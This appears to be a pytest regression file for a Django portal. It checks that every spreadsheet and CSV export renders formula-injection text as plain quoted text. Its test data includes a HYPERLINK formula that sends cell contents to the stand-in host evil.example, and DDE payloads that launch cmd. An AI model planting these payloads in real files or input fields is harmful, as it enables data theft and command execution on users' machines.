"""Formula injection (#13): text that a spreadsheet would evaluate (`=HYPERLINK(...)` typed as a topic's title) comes
back from every .xlsx export and from the public .csv as plain text. The writers are tested once, and every export
over a county whose every name and text is hostile."""

import csv
import io
import re
import zipfile
from datetime import date, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from consult_portal import audit
from consult_portal.models import Area
from consult_portal.spreadsheets import csv_download, xlsx_download
from members.models import Assignment
from outcomes.models import SatisfactionResponse
from sessions.models import Participant, RecordItem, Research
from tests.documents_helpers import YEAR
from tests.factories import (
    AreaFactory,
    CommitteeFactory,
    MeetingFactory,
    MemberFactory,
    OutcomeFactory,
    PlatformFactory,
    SectorFactory,
    TopicFactory,
    UnitFactory,
)
from topics.models import ConsultationPlan, PlanEntry

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))


def _cells(content: bytes):
    for row in load_workbook(io.BytesIO(content)).active.iter_rows():
        yield from row


def assert_plain_text(content: bytes) -> list[str]:
    """No formula anywhere, and every cell that starts like one a text cell marked as text; the texts of those."""
    assert not re.search(r"<(\w+:)?f[ >]", _sheet_xml(content)), "a formula in the sheet"
    texts = []
    for cell in _cells(content):
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
            texts.append(cell.value)
    return texts


# ------------------------------------------------------------------------------------------ the writers


def test_the_xlsx_writer_keeps_text_that_looks_like_a_formula_as_text():
    day = date(2026, 3, 1)
    response, count = xlsx_download(
        filename="t.xlsx", sheet_title="t", header=[HYPERLINK, "标题"], rows=[[*HOSTILE, -5, 2.5, day, None, "议题"]]
    )
    content = _content(response)
    assert count == 1
    assert assert_plain_text(content) == [HYPERLINK, *HOSTILE]
    header, row = (list(r) for r in load_workbook(io.BytesIO(content)).active.iter_rows())
    assert [c.value for c in header[:2]] == [HYPERLINK, "标题"]
    assert [c.value for c in row[:6]] == HOSTILE
    # numbers and dates stay numbers and dates, negative ones too; ordinary text is not marked
    assert [(c.value, c.data_type) for c in row[6:8]] == [(-5, "n"), (2.5, "n")]
    assert row[8].value.date() == day and row[8].is_date
    assert row[9].value is None
    assert (row[10].value, row[10].quotePrefix) == ("议题", False)


def test_the_csv_writer_puts_a_quote_before_text_that_looks_like_a_formula():
    response, count = csv_download(filename="t.csv", header=["年度", HYPERLINK], rows=[[*HOSTILE, -5, 2.5, "50.0%"]])
    assert count == 1
    assert response["Content-Disposition"] == 'attachment; filename="t.csv"'
    header, row = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    assert header == ["年度", f"'{HYPERLINK}"]
    assert row == [f"'{text}" for text in HOSTILE] + ["-5", "2.5", "50.0%"]


# ------------------------------------------------------------------------------------------ every export


@pytest.fixture
def hostile_county(office, county):
    """A town, its village, a platform, a topic in the plan, a recorded meeting, an item with its satisfaction, a
    member sunk into the village and on a committee, and an audit entry: every name and text a formula."""
    h = HYPERLINK
    town = AreaFactory(name=h, code="T-H", level=Area.Level.TOWN, parent=county)
    village = AreaFactory(name=f"-{h}", code="V-H", level=Area.Level.VILLAGE, parent=town)
    committee = CommitteeFactory(name=h)
    committee.stations.set([town])
    member = MemberFactory(name=h, sector=SectorFactory(name=h), committee=committee, expertise=h)
    Assignment.objects.create(member=member, area=village, starts_on=timezone.localdate() - timedelta(days=30))
    topic = TopicFactory(
        town=town, village=village, title=h, description=h, submitter_name=h, status="planned", year=YEAR
    )
    plan, _created = ConsultationPlan.objects.get_or_create(year=YEAR)
    PlanEntry.objects.create(plan=plan, topic=topic, quarter=1, platform_level="village")
    platform = PlatformFactory(
        name=h, level="village", area=village, address=h, contact_name=h, host_unit=h, committee=committee
    )
    PlatformFactory(name=f"@{h}", level="town", kind="studio", area=town, committee=committee)
    starts = timezone.make_aware(datetime(YEAR, 1, 2, 9))
    meeting = MeetingFactory(
        title=h, platform=platform, status="recorded", starts_at=starts, ends_at=starts + timedelta(hours=2),
        place=h, host=h, organiser=h, summary=h,
    )  # fmt: skip
    meeting.topics.add(topic)
    Participant.objects.create(meeting=meeting, kind="member", member=member, checked_in_at=starts)
    Research.objects.create(meeting=meeting, date=starts.date(), kind="visit", findings=h).members.add(member)
    RecordItem.objects.create(meeting=meeting, kind="consensus", text=h)
    unit = UnitFactory(name=h, contact_name=h)
    item = OutcomeFactory(
        meeting=meeting, unit=unit, text=h, contact_name=h, status="implemented", published_at=timezone.now()
    )
    SatisfactionResponse.objects.create(verified=True, item=item, rating=5, browser_token="hostile")
    audit.record(actor=office, action="admin_change", obj=topic, before={"title": "议题"}, after={"title": h})
    return town


# route: (path arguments, query)
EXPORTS = {
    "topics:topics-xlsx": ([], {}),
    "topics:plan-xlsx": ([YEAR], {}),
    "sessions:meetings-xlsx": ([], {}),
    "sessions:platforms-xlsx": ([], {}),
    "sessions:coverage-xlsx": ([], {"year": YEAR}),
    "outcomes:items-xlsx": ([], {}),
    "outcomes:satisfaction-units-xlsx": ([], {"year": YEAR}),
    "outcomes:satisfaction-towns-xlsx": ([], {"year": YEAR}),
    "members:export": ([], {}),
    "members:coverage-xlsx": ([], {}),
    "committees-xlsx": ([], {"year": YEAR}),
    "performance-export": ([], {"year": YEAR}),
    "assessment-export": ([], {"year": YEAR}),
    "dashboard-export": ([], {"year": YEAR}),
    "audit-export": ([], {}),
}


@pytest.mark.parametrize("route", EXPORTS)
def test_every_export_writes_a_hostile_name_as_plain_text(client, office, hostile_county, route):
    args, query = EXPORTS[route]
    client.force_login(office)
    response = client.get(reverse(route, args=args), query)
    assert response.status_code == 200
    texts = assert_plain_text(_content(response))
    assert any(HYPERLINK in text for text in texts), "the export shows none of the hostile names"


def test_the_public_csv_puts_a_quote_before_a_hostile_town_name(client, hostile_county):
    response = client.get(f"/stats/{YEAR}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    towns = [row[1] for row in rows]
    assert f"'{HYPERLINK}" in towns
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
